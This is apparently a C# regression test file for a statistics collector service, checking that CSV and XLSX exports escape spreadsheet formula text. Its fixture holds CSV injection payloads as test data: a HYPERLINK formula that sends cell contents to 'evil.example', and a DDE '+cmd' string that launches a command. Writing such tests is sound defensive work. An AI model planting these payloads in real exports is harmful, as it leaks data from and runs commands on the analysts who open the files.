using System.IO.Compression;
using System.Text;
using WuzhongCollector.Service.Web;

namespace WuzhongCollector.Service.Tests.Plan;

/// <summary>
/// Issue 12: text from a source file or from the request (an area code) was written verbatim into CSV, so a
/// spreadsheet ran <c>=HYPERLINK(…)</c> when an analyst opened it. Text cells are escaped; numbers stay numbers.
/// </summary>
public sealed class CsvInjectionTests : IDisposable
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";

    private readonly TestConfig config = new();

    public CsvInjectionTests()
    {
        config.WriteSource("hostile", """
            name: 地区 from the file, unchecked
            kind: csv
            schedule: { cron: "0 2 * * *" }
            file: { path: exports/hostile.csv }
            mapping:
              indicator: { const: INDUSTRIAL_ROBOTS_DEPLOYED }
              area: 地区
              period: 期别
              value: 数值
            """);
        config.WriteFile("exports/hostile.csv", $"""
            地区,期别,数值
            "{Formula.Replace("\"", "\"\"", StringComparison.Ordinal)}",2021年,310
            +cmd|' /C calc'!A0,2021年,-5
            -2+3,2021年,12
            @SUM(1),2021年,7
            """);
    }

    public void Dispose() => config.Dispose();

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+1", "'+1")]
    [InlineData("-1", "'-1")]
    [InlineData("@x", "'@x")]
    [InlineData("\tx", "'\tx")]
    [InlineData("\rx", "'\rx")]
    [InlineData("a=1", "a=1")]
    [InlineData("", "")]
    public void Escape_PrefixesWhatASpreadsheetWouldRun(string text, string expected) => Assert.Equal(expected, CsvAnswer.Escape(text));

    [Fact]
    public async Task SeriesAndExportCsv_EscapeFormulaText_FromTheFileAndFromTheRequest_NumbersStayNumbers()
    {
        await using var host = await CollectorHost.StartAsync(config);
        await host.CollectAsync("hostile");

        var series = await host.Http.GetStringAsync("/api/series/INDUSTRIAL_ROBOTS_DEPLOYED?format=csv");
        var export = await host.Http.GetStringAsync("/api/export/observations?format=csv&lang=en&indicators=INDUSTRIAL_ROBOTS_DEPLOYED&area=" + Uri.EscapeDataString(Formula));

        Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\"", series, StringComparison.Ordinal);
        Assert.Contains("\"'+cmd|' /C calc'!A0\"", series, StringComparison.Ordinal);
        Assert.Contains("\"'-2+3\"", series, StringComparison.Ordinal);
        Assert.Contains("\"'@SUM(1)\"", series, StringComparison.Ordinal);
        Assert.Contains(",-5,", series, StringComparison.Ordinal);
        Assert.DoesNotContain("\"=", series, StringComparison.Ordinal);
        Assert.DoesNotContain("\n=", series, StringComparison.Ordinal);
        Assert.DoesNotContain(",=", series, StringComparison.Ordinal);

        // The area comes from the request and is echoed in every row.
        var rows = export.TrimStart('\uFEFF').TrimEnd().Split('\n').Skip(1).ToList();
        Assert.Single(rows);
        Assert.Contains(",\"'=HYPERLINK(", rows[0], StringComparison.Ordinal);
        Assert.Contains(",310,", rows[0], StringComparison.Ordinal);
        Assert.DoesNotContain(",\"=", export, StringComparison.Ordinal);
    }

    [Fact]
    public async Task XlsxExport_WritesFormulaTextAsText_AndNumbersAsNumbers()
    {
        await using var host = await CollectorHost.StartAsync(config);
        await host.CollectAsync("hostile");

        var bytes = await host.Http.GetByteArrayAsync("/api/export/observations?format=xlsx&lang=en&indicators=INDUSTRIAL_ROBOTS_DEPLOYED&area=" + Uri.EscapeDataString("+cmd|' /C calc'!A0"));

        using var zip = new ZipArchive(new MemoryStream(bytes));
        var xml = string.Concat(zip.Entries.Where(e => e.FullName.StartsWith("xl/", StringComparison.Ordinal) && e.FullName.EndsWith(".xml", StringComparison.Ordinal))
            .Select(e => new StreamReader(e.Open(), Encoding.UTF8).ReadToEnd()));
        Assert.DoesNotContain("<f>", xml, StringComparison.Ordinal);
        Assert.DoesNotContain("<x:f>", xml, StringComparison.Ordinal);
        Assert.Contains("+cmd|", xml, StringComparison.Ordinal);
        Assert.Matches("<(x:)?c [^>]*t=\"(str|s|inlineStr)\"", xml);
        Assert.Matches("<(x:)?v>-5</(x:)?v>", xml);
    }
}
